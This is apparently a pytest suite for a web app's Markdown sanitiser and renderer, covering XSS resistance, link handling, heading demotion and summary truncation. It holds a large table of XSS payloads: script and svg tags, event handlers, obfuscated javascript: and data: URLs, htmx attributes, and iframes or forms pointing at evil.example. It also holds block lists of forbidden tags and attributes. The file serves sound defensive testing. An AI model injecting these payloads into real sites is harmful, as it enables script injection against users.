"""Tests for ypb.domain.richtext: XSS resistance first, then rendering."""

from __future__ import annotations

import ast
import re
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ypb.domain import richtext
from ypb.domain.richtext import render_markdown, render_plain, summary_text

# --------------------------------------------------------------------------
# Output inspection helpers (parse, never grep raw strings)
# --------------------------------------------------------------------------

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input",
    "button", "textarea", "select", "img", "svg", "math", "base", "meta",
    "link", "video", "audio", "source", "picture", "template", "h1", "h2",
}  # fmt: skip
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h3", "h4", "h5", "h6", "a",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
FORBIDDEN_ATTR_PREFIXES = ("on", "hx-", "data-", "style")
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:")
LINK_REL = "nofollow noopener ugc"

# Browsers drop ASCII whitespace/control characters inside scheme names.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)


def parse(fragment: str) -> _Collector:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector


def normalised_url(value: str) -> str:
    # html.parser has already decoded entities (&#x09; etc.); also undo
    # percent-encoding so "jav%09ascript:" cannot sneak past the check.
    decoded = urllib.parse.unquote(value)
    return _URL_NOISE.sub("", decoded).lower()


def violations(fragment: str) -> list[str]:
    """Every reason the fragment would be unsafe to inline into a page."""
    found: list[str] = []
    doc = parse(fragment)
    if doc.comments:
        found.append(f"comment {doc.comments!r}")
    for tag, attrs in doc.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden tag <{tag}>")
        elif tag not in ALLOWED_TAGS:
            found.append(f"unexpected tag <{tag}>")
        for name, value in attrs:
            if name.startswith(FORBIDDEN_ATTR_PREFIXES):
                found.append(f"forbidden attribute {name} on <{tag}>")
            elif tag != "a" or name not in ("href", "rel"):
                found.append(f"unexpected attribute {name} on <{tag}>")
            elif name == "href" and not normalised_url(value or "").startswith(
                SAFE_URL_PREFIXES
            ):
                found.append(f"unsafe href {value!r}")
            elif name == "rel" and value != LINK_REL:
                found.append(f"wrong rel {value!r}")
    return found


def tags_of(fragment: str) -> list[str]:
    return [tag for tag, _ in parse(fragment).tags]


def links_of(fragment: str) -> list[dict[str, str | None]]:
    return [dict(attrs) for tag, attrs in parse(fragment).tags if tag == "a"]


# --------------------------------------------------------------------------
# XSS payloads
# --------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#9;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: <jav&#x09;ascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">x</a>',
    '<div hx-get="/admin" hx-trigger="load">x</div>',
    '<a hx-post="/x">x</a>',
    '<p data-hx-get="/x" data-hx-trigger="load">x</p>',
    '<p style="position:fixed;top:0;left:0">x</p>',
    '<p class="admin-only" id="csrf_token">x</p>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    "<style>body{display:none}</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://evil.example/t.png "onerror=alert(1)")',
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/t.png)](javascript:alert(1))",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>\n\n| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    "> [x](javascript:alert(1))\n> - <svg onload=alert(1)>",
    "**[x](javascript:alert(1))** ~~<iframe>~~",
]


def test_payload_table_is_large_enough():
    assert len(XSS_PAYLOADS) >= 25
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize(
    "fragment",
    [
        "<script>alert(1)</script>",
        "<img src=x>",
        "<svg></svg>",
        "<h1>x</h1>",
        '<p onclick="x">x</p>',
        '<p hx-get="/x">x</p>',
        '<p data-x="1">x</p>',
        '<p style="x">x</p>',
        '<p class="x">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="jav%09ascript:alert(1)">x</a>',
        '<a href="/relative">x</a>',
        f'<a href="https://ok.example" rel="{LINK_REL}" target="_blank">x</a>',
        '<a href="https://ok.example" rel="noopener">x</a>',
        "<!-- x -->",
    ],
)
def test_violation_checker_catches_known_bad_html(fragment):
    # Guards the guard: if the checker went blind, every XSS test would pass.
    assert violations(fragment)


def test_violation_checker_accepts_known_good_html():
    good = (
        f'<h3>t</h3><p><strong>a</strong> <a href="https://x.example/" rel="{LINK_REL}">'
        f'l</a> <a href="MAILTO:a@b.example" rel="{LINK_REL}">m</a><br></p><hr>'
    )
    assert violations(good) == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_neutralises_payload(payload):
    assert violations(render_markdown(payload)) == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_alone_neutralises_payload(payload):
    # Defence in depth: even if the renderer passed raw HTML straight
    # through, the sanitiser must still produce safe output.
    assert violations(richtext._sanitise_html(payload)) == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_plain_neutralises_payload(payload):
    assert set(tags_of(render_plain(payload))) <= {"br"}


@pytest.mark.parametrize("payload", [p for p in XSS_PAYLOADS if "<" not in p])
def test_summary_text_never_produces_markup(payload):
    # summary_text is plain text: Markdown links/images must not turn into
    # tags.  (Rejected links stay as literal source text, which is harmless
    # once the template escapes it.)
    summary = summary_text(payload, limit=1000)
    assert "<" not in summary
    assert "\n" not in summary


def test_raw_html_is_shown_as_text_not_dropped():
    out = render_markdown("Use <b>bold</b> & <script>x</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in out
    assert "&lt;script&gt;" in out
    assert "&amp;" in out
    assert tags_of(out) == ["p"]


def test_script_content_is_removed_by_sanitiser():
    out = richtext._sanitise_html("<p>ok</p><script>alert(1)</script>")
    assert "alert" not in out
    assert out == "<p>ok</p>"


def test_javascript_link_keeps_text_but_loses_href():
    out = render_markdown("[click me](javascript:alert(1))")
    assert "click me" in out
    assert all("href" not in attrs for attrs in links_of(out))


def test_hx_and_data_attributes_removed_from_allowed_tag():
    out = richtext._sanitise_html('<p hx-get="/admin" data-hx-post="/x">x</p>')
    assert out == "<p>x</p>"


# --------------------------------------------------------------------------
# render_markdown: positive behaviour
# --------------------------------------------------------------------------


def test_emphasis():
    out = render_markdown("*soft* and **loud** and _also_")
    assert out == "<p><em>soft</em> and <strong>loud</strong> and <em>also</em></p>"


def test_strikethrough_becomes_del():
    out = render_markdown("~~old idea~~")
    assert out == "<p><del>old idea</del></p>"


def test_lists():
    out = render_markdown("- one\n- two\n\n1. first\n2. second")
    assert tags_of(out) == ["ul", "li", "li", "ol", "li", "li"]
    assert "<li>two</li>" in out and "<li>second</li>" in out


def test_blockquote_hr_and_hard_break():
    out = render_markdown("> quoted\n\n---\n\nline one  \nline two")
    assert tags_of(out) == ["blockquote", "p", "hr", "p", "br"]


def test_https_link_keeps_href_and_gets_forced_rel():
    out = render_markdown('[park](https://example.org/park?a=1&b=2 "Park")')
    assert links_of(out) == [
        {"href": "https://example.org/park?a=1&b=2", "rel": LINK_REL}
    ]
    assert violations(out) == []


def test_existing_rel_and_target_are_replaced():
    out = richtext._sanitise_html(
        '<a href="https://example.org" rel="opener" target="_blank">x</a>'
    )
    assert links_of(out) == [{"href": "https://example.org", "rel": LINK_REL}]


@pytest.mark.parametrize(
    "source, href",
    [
        ("<https://example.org/x>", "https://example.org/x"),
        ("[mail](mailto:youth@example.org)", "mailto:youth@example.org"),
        ("<youth@example.org>", "mailto:youth@example.org"),
        ("[ref][r]\n\n[r]: http://example.org", "http://example.org"),
    ],
)
def test_allowed_link_forms(source, href):
    assert links_of(render_markdown(source)) == [{"href": href, "rel": LINK_REL}]


@pytest.mark.parametrize("source", ["[x](/admin)", "[x](#top)", "[x](//evil.example)"])
def test_relative_links_are_dropped(source):
    links = links_of(render_markdown(source))
    assert links and all("href" not in attrs for attrs in links)


@pytest.mark.parametrize(
    "source, tag",
    [
        ("# T", "h3"),
        ("## T", "h4"),
        ("### T", "h5"),
        ("#### T", "h6"),
        ("##### T", "h6"),
        ("###### T", "h6"),
        ("T\n===", "h3"),
        ("T\n---", "h4"),
    ],
)
def test_headings_are_demoted_two_levels(source, tag):
    assert render_markdown(source) == f"<{tag}>T</{tag}>"


def test_heading_order_preserved_and_never_h1_h2():
    out = render_markdown("# A\n\n## B\n\n### C")
    assert tags_of(out) == ["h3", "h4", "h5"]


def test_fenced_code_is_escaped_and_language_class_dropped():
    out = render_markdown('```html\n<script>alert("x")</script>\n```')
    assert tags_of(out) == ["pre", "code"]
    assert "&lt;script&gt;" in out
    assert "class" not in out


def test_inline_code_is_escaped():
    out = render_markdown("Use `<b>` & `a && b`")
    assert out == "<p>Use <code>&lt;b&gt;</code> &amp; <code>a &amp;&amp; b</code></p>"


def test_table_rendered_without_alignment_style():
    out = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert tags_of(out) == [
        "table",
        "thead",
        "tr",
        "th",
        "th",
        "tbody",
        "tr",
        "td",
        "td",
    ]
    assert violations(out) == []


def test_image_becomes_link_labelled_with_alt():
    out = render_markdown("![our park](https://example.org/p.png)")
    assert "img" not in tags_of(out)
    assert links_of(out) == [{"href": "https://example.org/p.png", "rel": LINK_REL}]
    assert ">our park</a>" in out


def test_image_without_alt_uses_url_as_label():
    out = render_markdown("![](https://example.org/p.png)")
    assert ">https://example.org/p.png</a>" in out


@pytest.mark.parametrize("text", ["", " ", "\n\n", " \t\r\n ", "\x00\x01"])
def test_blank_input_gives_empty_string(text):
    assert render_markdown(text) == ""
    assert render_plain(text) == ""
    assert summary_text(text) == ""


def test_returns_plain_str():
    for out in (render_markdown("*x*"), render_plain("x"), summary_text("x")):
        assert type(out) is str


@pytest.mark.parametrize(
    "big",
    [
        "word " * 20_000,
        "[" * 100_000,
        "*a" * 50_000,
        "> " * 50_000 + "x",
        "<" * 100_000,
        "[a](" * 25_000,
        "![[" * 30_000,
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000,
        "<script>" * 12_500,
    ],
)
def test_large_input_does_not_blow_up(big):
    assert len(big) >= 90_000
    out = render_markdown(big)
    assert violations(out) == []
    assert render_plain(big)
    assert len(summary_text(big)) <= 200


# --------------------------------------------------------------------------
# render_plain
# --------------------------------------------------------------------------


def test_render_plain_keeps_line_breaks():
    assert (
        render_plain("one\ntwo\r\nthree\rfour") == "one<br>\ntwo<br>\nthree<br>\nfour"
    )


def test_render_plain_escapes_and_ignores_markdown():
    out = render_plain("**5 < 6** & \"q\" 's' [x](https://e.org)")
    assert out == ("**5 &lt; 6** &amp; &quot;q&quot; &#x27;s&#x27; [x](https://e.org)")


def test_render_plain_trims_outer_blank_lines_only():
    assert render_plain("\n\n a\n\nb \n\n") == "a<br>\n<br>\nb"


# --------------------------------------------------------------------------
# summary_text
# --------------------------------------------------------------------------


def test_summary_strips_markdown():
    source = (
        "# Title\n\nA **bold** [link](https://e.org) and `code`.\n\n"
        "- item one\n- item two\n\n![alt text](https://e.org/x.png)"
    )
    assert (
        summary_text(source) == "Title A bold link and code. item one item two alt text"
    )


def test_summary_does_not_split_words_at_inline_markup():
    assert summary_text("**un**believable [x](https://e.org)y") == "unbelievable xy"


def test_summary_decodes_entities_and_keeps_raw_html_as_text():
    assert summary_text("Tom &amp; Jerry <b>hi</b>") == "Tom & Jerry <b>hi</b>"


def test_summary_short_text_unchanged():
    assert summary_text("A short idea.") == "A short idea."


def test_summary_exact_limit_not_cut():
    assert summary_text("abcde fghij", limit=11) == "abcde fghij"


def test_summary_cuts_at_word_boundary_with_ellipsis():
    out = summary_text("The new skate park near the school", limit=20)
    assert out == "The new skate park…"
    assert len(out) <= 20


def test_summary_cut_landing_on_space_keeps_full_word():
    # limit 12 -> 11 chars of budget: "hello world" fits exactly.
    assert summary_text("hello world again", limit=12) == "hello world…"


def test_summary_strips_trailing_punctuation_before_ellipsis():
    assert summary_text("hello, world again", limit=12) == "hello…"


def test_summary_hard_cuts_single_long_word():
    out = summary_text("x" * 300, limit=10)
    assert out == "x" * 9 + "…"


@pytest.mark.parametrize("limit", [1, 5, 37, 200])
def test_summary_never_exceeds_limit(limit):
    text = "Lorem ipsum dolor sit amet, consectetur adipiscing elit " * 10
    out = summary_text(text, limit=limit)
    assert len(out) <= limit
    assert out.endswith("…")


def test_summary_default_limit_is_200():
    out = summary_text("word " * 100)
    assert len(out) <= 200 and len(out) > 190
    assert out.endswith("word…")


def test_summary_rejects_non_positive_limit():
    with pytest.raises(ValueError):
        summary_text("x", limit=0)


# --------------------------------------------------------------------------
# Module boundaries
# --------------------------------------------------------------------------


def test_domain_module_has_no_web_or_db_imports():
    tree = ast.parse(Path(richtext.__file__).read_text(encoding="utf-8"))
    imported: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert imported, "import scan found nothing; the check would be vacuous"
    assert not imported & {
        "flask",
        "sqlalchemy",
        "flask_sqlalchemy",
        "markupsafe",
        "jinja2",
    }
